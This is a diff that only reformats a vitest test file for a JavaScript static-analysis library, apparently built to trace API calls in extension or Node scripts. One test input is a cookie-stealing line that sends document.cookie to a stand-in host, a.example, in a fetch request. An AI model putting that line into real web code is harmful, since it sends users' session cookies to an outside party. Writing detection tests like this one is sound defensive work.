@@ -1,6 +1,17 @@
 import { describe, expect, it } from 'vitest';
 import { parseScript } from './parse.ts';
-import { apiPath, callsNamed, callsOf, constant, pattern, placeAt, propertyOf, readsOf, show, writesOf } from './query.ts';
+import {
+  apiPath,
+  callsNamed,
+  callsOf,
+  constant,
+  pattern,
+  placeAt,
+  propertyOf,
+  readsOf,
+  show,
+  writesOf,
+} from './query.ts';
 
 const paths = (text: string, name: string): (string | undefined)[] => {
   const script = parseScript(text);
@@ -33,7 +44,9 @@ describe('names through aliases', () => {
   });
 
   it('knows imports inside functions that stand before them', () => {
-    expect(paths('function f() { ext.tabs.query({}) } import ext from "webextension-polyfill";', 'query')).toEqual(['chrome.tabs.query']);
+    expect(paths('function f() { ext.tabs.query({}) } import ext from "webextension-polyfill";', 'query')).toEqual([
+      'chrome.tabs.query',
+    ]);
   });
 
   it('names a local of the same name nothing', () => {
@@ -41,7 +54,9 @@ describe('names through aliases', () => {
   });
 
   it('knows modules of Node', () => {
-    const script = parseScript('import { exec as run } from "node:child_process"; const { promisify } = require("util"); promisify(require("fs").readFile)("x"); run("ls")');
+    const script = parseScript(
+      'import { exec as run } from "node:child_process"; const { promisify } = require("util"); promisify(require("fs").readFile)("x"); run("ls")',
+    );
     expect(callsOf(script, 'child_process.exec')).toHaveLength(1);
     expect(callsOf(script, 'fs.readFile')).toHaveLength(1);
   });
@@ -92,7 +107,11 @@ describe('writes, reads, places', () => {
   });
 
   it('writes values out as source', () => {
-    const script = parseScript('fetch("https://a.example/?c=" + document.cookie, { method: "POST", body: JSON.stringify(e) })');
-    expect(show(script, script.calls.at(-1) ?? 0)).toBe('fetch("https://a.example/?c=" + document.cookie, {method: "POST", body: JSON.stringify(e)})');
+    const script = parseScript(
+      'fetch("https://a.example/?c=" + document.cookie, { method: "POST", body: JSON.stringify(e) })',
+    );
+    expect(show(script, script.calls.at(-1) ?? 0)).toBe(
+      'fetch("https://a.example/?c=" + document.cookie, {method: "POST", body: JSON.stringify(e)})',
+    );
   });
 });
